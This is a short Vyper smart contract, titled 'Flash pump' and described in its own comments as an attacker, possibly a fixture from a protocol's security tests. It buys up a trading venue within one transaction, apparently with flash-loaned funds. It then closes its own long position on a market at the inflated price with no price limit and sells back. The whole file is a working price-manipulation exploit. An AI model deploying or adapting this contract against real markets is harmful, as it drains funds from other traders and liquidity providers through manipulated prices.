# pragma version 0.4.3
"""
@title Flash pump
@notice Attacker: within one transaction buys a venue up, closes a position that it owns, and sells everything back. What it
        buys with is back at the end, so it may be a flash loan.
"""

from ethereum.ercs import IERC20

interface Venue:
    def buy(quote: uint256) -> uint256: nonpayable
    def sell(base: uint256) -> uint256: nonpayable


interface Market:
    def close(id: uint256, price_limit: uint256, deadline: uint256): nonpayable


token: immutable(IERC20)
venue: immutable(Venue)
market: immutable(Market)


@deploy
def __init__(token_: address, venue_: address, market_: address):
    """
    @param token_ Quote token.
    @param venue_ What to buy up.
    @param market_ Where the position is.
    """
    token = IERC20(token_)
    venue = Venue(venue_)
    market = Market(market_)


@external
def attack(id: uint256, quote: uint256):
    """
    @notice Pump, close, dump.
    @param id A long of this contract.
    @param quote Token units to buy with.
    """
    assert extcall token.approve(venue.address, quote)
    base: uint256 = extcall venue.buy(quote)
    extcall market.close(id, 0, block.timestamp)
    extcall venue.sell(base)
